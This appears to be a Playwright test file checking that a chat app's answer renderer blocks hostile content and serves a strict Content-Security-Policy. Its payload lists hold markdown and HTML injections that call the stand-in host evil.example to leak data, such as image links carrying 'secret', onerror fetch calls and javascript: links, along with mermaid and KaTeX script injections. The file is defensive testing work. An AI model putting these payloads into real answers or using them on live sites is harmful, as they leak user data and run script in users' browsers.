import { expect, type Page, test } from '@playwright/test';
import { ChatPage } from '../pages/chat-page.ts';
import { answerWith, holdAnswers } from './scripted-answers.ts';

const HOSTILE = [
  '![leak](http://evil.example/a.png?q=secret) ',
  '[![x](http://evil.example/b.png)](http://evil.example/c) ',
  '![r][ref]\n\n[ref]: http://evil.example/d.png\n\n',
  '<img src="http://evil.example/e.png" srcset="http://evil.example/f.png 2x" onerror="fetch(`//evil.example/g`)">\n\n',
  '<link rel="prefetch" href="http://evil.example/h"><style>@import "http://evil.example/i";</style>\n\n',
  '<video poster="http://evil.example/j"></video><iframe src="http://evil.example/k"></iframe>\n\n',
  '<script src="http://evil.example/l"></script>\n\n',
  '[now](javascript:fetch`//evil.example/m`) http://evil.example/n www.evil.example\n\n',
  '|a|\n|-|\n|![t](http://evil.example/o.png)|\n\n[evil.pdf#page=1](http://evil.example/p)',
].join('');

/** Drawn content: formulas, coloured code, diagrams. */
const DRAWN = [
  String.raw`$\href{javascript:fetch('//evil.example/a')}{x}$ $\includegraphics{http://evil.example/b.png}$ `,
  String.raw`$$\htmlStyle{background:url(http://evil.example/c)}{y} \pmb{z}$$ `,
  String.raw`$\def\a{\a\a}\a$ \(${'{'.repeat(500)}\) $\rule{9999em}{9999em}$`,
  '\n\n```html\n<img src="http://evil.example/d" onerror="alert(1)"><script src="//evil.example/e"></script>\n```',
  `\n\n\`\`\`cpp\n${'a<'.repeat(5000)}\n\`\`\``,
  '\n\n```mermaid\nflowchart TD\n A["<img src=http://evil.example/f onerror=alert(1)>"] --> B[<script>alert(2)</script>]',
  '\n click A "javascript:alert(3)"\n style A fill:url(http://evil.example/g)\n style B fill:red"/><image href="http://evil.example/h\n```',
  `\n\n\`\`\`mermaid\nflowchart TD\n${Array.from({ length: 400 }, (_, at) => `n${at}-->n${(at * 7) % 400}`).join('\n')}\n\`\`\``,
  `\n\n\`\`\`mermaid\n${'subgraph x\n'.repeat(1000)}\n\`\`\``,
  '\n\nThe end[^1].\n\n[^1]: http://evil.example/i [x](javascript:alert(4))',
].join('');

/** Some answers that were cut short; `answer-text.test.tsx` renders those of every length. */
const PREFIXES = Array.from({ length: 47 }, (_, at) => HOSTILE.slice(0, 17 * (at + 1)));

/** Forbidden acts of a page: its requests to other origins and its dialogs from now on. */
function watchForHarm(page: Page, baseURL: string | undefined): string[] {
  const harm: string[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).origin !== baseURL) harm.push(request.url());
  });
  page.on('dialog', (dialog) => {
    harm.push(dialog.message());
    void dialog.dismiss();
  });
  return harm;
}

test('a hostile answer makes no request while it arrives byte by byte', async ({ page, baseURL }) => {
  const harm = watchForHarm(page, baseURL);
  const answer = await holdAnswers(page);
  const chat = new ChatPage(page);
  await chat.open();
  await chat.question.fill('What is the leave policy?');
  await chat.question.press('Enter');
  for (const byte of HOSTILE) await answer.say(byte);
  await answer.end();
  await chat.send.waitFor();
  await expect(chat.conversation).toContainText('evil.pdf#page=1');
  await page.waitForLoadState('networkidle');
  expect(harm).toEqual([]);
  await expect(chat.conversation.getByRole('img')).toHaveCount(0);
});

test('a hostile answer makes no request where it was cut short', async ({ page, baseURL }) => {
  const harm = watchForHarm(page, baseURL);
  await answerWith(page, ...PREFIXES.map((text) => ({ text })));
  const chat = new ChatPage(page);
  await chat.open();
  for (const [at] of PREFIXES.entries()) {
    await chat.ask(`Question ${at}`);
    if (at % 10 === 9) await chat.discard();
  }
  await page.waitForLoadState('networkidle');
  expect(harm).toEqual([]);
  await expect(chat.conversation.getByRole('img')).toHaveCount(0);
});

test('hostile formulas, code and diagrams load and run nothing, break no policy and leave the page usable', async ({
  page,
  baseURL,
}) => {
  const harm = watchForHarm(page, baseURL);
  const complaints: string[] = [];
  page.on('console', (message) => message.type() === 'error' && complaints.push(message.text()));
  await answerWith(page, { text: DRAWN }, { text: 'Five days.' });
  const chat = new ChatPage(page);
  await chat.open();
  await chat.ask('What is the leave policy?');
  await expect(chat.conversation).toContainText('The end');
  await expect(chat.conversation.getByText('This diagram cannot be drawn.').first()).toBeVisible();
  // A diagram is a picture that the page made: what it holds can load and run nothing.
  for (const image of await chat.conversation.getByRole('img', { name: 'Diagram' }).all()) {
    await expect(image).toHaveAttribute('src', /^blob:/);
  }
  await chat.ask('And then?');
  await expect(chat.turn('And then?')).toContainText('Five days.');
  // The pictures are requests of the page to itself.
  expect(harm.filter((url) => !url.startsWith('blob:'))).toEqual([]);
  expect(complaints).toEqual([]);
});

test('the page runs no script and loads nothing but its own', async ({ page }) => {
  const policies: string[] = [];
  for (const path of ['/sign-in', '/account', '/compare', '/c/cw_none', '/shared/sh_none', '/nowhere', '/']) {
    const response = await page.goto(path);
    const policy = response?.headers()['content-security-policy'] ?? '';
    expect(policy, path).toMatch(/^default-src 'none'; script-src 'nonce-[^' ]+' 'strict-dynamic';/);
    expect(policy, path).toMatch(
      /connect-src 'self';.*base-uri 'none'; form-action 'self'; require-trusted-types-for 'script'/,
    );
    expect(policy, path).not.toMatch(/unsafe-(inline|eval)|https?:|\*/);
    policies.push(policy);
  }
  const policy = policies.at(-1);
  const again = await page.goto('/');
  expect(again?.headers()['content-security-policy']).not.toBe(policy);
});

test('a real answer and its document need nothing from elsewhere and break no policy', async ({
  page,
  baseURL,
}) => {
  const elsewhere: string[] = [];
  const complaints: string[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).origin !== baseURL) elsewhere.push(request.url());
  });
  page.on('console', (message) => {
    if (message.type() === 'error') complaints.push(message.text());
  });
  const chat = new ChatPage(page);
  await chat.open();
  await chat.ask('How many days can I work from abroad each year?');
  await chat.citation(1).first().click();
  await page.waitForLoadState('networkidle');
  expect(elsewhere).toEqual([]);
  expect(complaints).toEqual([]);
});
